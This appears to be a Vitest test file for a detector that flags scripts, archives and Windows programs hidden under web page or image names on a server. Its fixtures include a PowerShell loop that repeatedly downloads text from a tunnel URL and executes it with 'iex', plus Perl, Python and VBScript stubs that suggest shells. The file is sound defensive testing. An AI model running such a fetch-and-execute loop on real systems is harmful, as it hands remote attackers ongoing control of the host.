import { describe, expect, it } from 'vitest';
import { disguisedProgram } from '../../src/findings/disguised-program.js';

const program = (path: string, type: Parameters<typeof disguisedProgram>[1], text = '') =>
  disguisedProgram(path, type, text)?.program;

describe('disguisedProgram', () => {
  it('names a script for another interpreter under a page name by a fixed word', () => {
    expect(program('/var/www/html/up/x.php', 'script', '#!/usr/bin/perl\nuse IO::Socket;\n')).toBe(
      'a Perl script',
    );
    expect(program('/srv/app/x.aspx', 'script', '#!/usr/bin/env -S python3 -u\n')).toBe(
      'a Python script',
    );
    // The interpreter's name is the suspect's text: an unknown one is not repeated.
    expect(program('/srv/app/x.jsp', 'script', '#!/tmp/\x1b[2Jevil\n')).toBe(
      "another program's script",
    );
  });

  it('leaves command-line PHP, CGI names and shell libraries alone', () => {
    for (const [path, text] of [
      ['/var/www/html/cron.php', '#!/usr/bin/env php\n<?php'],
      ['/var/www/html/cli.php', '#!/usr/local/bin/php-cgi -q\n<?php'],
      ['/var/www/html/cli.php', '#!/usr/bin/php8.2\n<?php'],
      ['/var/www/html/cli.php', '#! /usr/bin/env hhvm\n<?php'],
      // PHP's command line skips the first line, whatever it names.
      ['/var/www/html/cli.php', '#!/usr/bin/env /usr/bin/php\n<?php echo 1;'],
      ['/usr/share/x/functions.inc', '#!/bin/sh\n'],
      ['/usr/lib/cgi-bin/a.pl', '#!/usr/bin/perl\n'],
    ])
      expect(program(path!, 'script', text), path).toBeUndefined();
  });

  it('names an archive under a page name, not under its own', () => {
    expect(program('/var/www/html/x.php', 'archive')).toBe('an archive');
    expect(program('/var/www/html/dl/tool.zip', 'archive')).toBeUndefined();
  });

  it('names a Windows program under a page, image or document name, not under its own', () => {
    expect(disguisedProgram('/var/www/html/img/a.jpg', 'pe', undefined)).toEqual({
      program: 'a Windows program (PE)',
      namedAs: 'a page, image or document',
    });
    expect(program('/usr/lib/mono/4.5/System.dll', 'pe')).toBeUndefined();
    expect(program('/var/www/html/dl/setup.exe', 'pe')).toBeUndefined();
  });

  it('reads the language of a page with no server code by two of its idioms', () => {
    const powershell = [
      '$u = "https://x.trycloudflare.com/post.php"',
      '$wc = New-Object System.Net.WebClient',
      'while ($true) { $r = $wc.DownloadString($u); $r | iex; Start-Sleep 5 }',
    ].join('\n');
    expect(program('/var/www/html/a.php', 'text', powershell)).toBe('a PowerShell program');
    const python = 'import socket\nimport subprocess\ndef main(host):\n    pass\n';
    expect(program('/var/www/html/a.php', 'text', python)).toBe('a Python program');
    const perl = 'use strict;\nmy $host = $ARGV[0];\ndie "usage" unless $host;\n';
    expect(program('/var/www/html/a.php', 'text', perl)).toBe('a Perl program');
    const vbs = 'On Error Resume Next\nSet sh = CreateObject("WScript.Shell")\nsh.Run cmd\n';
    expect(program('/inetpub/wwwroot/a.asp', 'text', vbs)).toBe('a VBScript program');
  });

  it("reads a program saved as UTF-16 (PowerShell's default) by its decoded text", () => {
    const ps = '$wc = New-Object System.Net.WebClient\n$wc.DownloadString($u) | iex\n';
    expect(program('/var/www/html/a.php', 'binary', ps)).toBe('a PowerShell program');
  });

  it('leaves a page alone whose code the server runs, or whose prose names one idiom', () => {
    const vbsInAsp = '<%\nOn Error Resume Next\nSet sh = CreateObject("WScript.Shell")\n%>';
    expect(program('/inetpub/wwwroot/a.asp', 'text', vbsInAsp)).toBeUndefined();
    const php = '<?php\n// import os\n$x = `New-Object System.Net.WebClient`;\n';
    expect(program('/var/www/html/a.php', 'text', php)).toBeUndefined();
    // A help page quoting one command is not a program.
    const help = '<p>Run <code>Get-ChildItem $HOME</code> to list files.</p>';
    expect(program('/var/www/html/help.php', 'text', help)).toBeUndefined();
    // Pages that open as markup and quote code: a help page's sample, a browser's VBScript.
    const apiHelp = [
      '<html><body><h1>Client</h1><pre>',
      'from client import Api',
      'import sys',
      'def main(key):',
      '    print("hello")',
      '</pre></body></html>',
    ].join('\n');
    expect(program('/var/www/html/api-help.php', 'text', apiHelp)).toBeUndefined();
    const clientVbs = [
      '<html><head><script language="VBScript">',
      'Dim total',
      'Sub Window_OnLoad()',
      '  Set total = Document.All("total")',
      'End Sub',
      '</script></head></html>',
    ].join('\n');
    expect(program('/inetpub/wwwroot/order.asp', 'text', clientVbs)).toBeUndefined();
    // Not a page's name: a program kept as what it is.
    expect(
      program('/var/www/html/tools/x.ps1', 'text', 'Start-Sleep 1\n$env:TEMP\n'),
    ).toBeUndefined();
  });
});
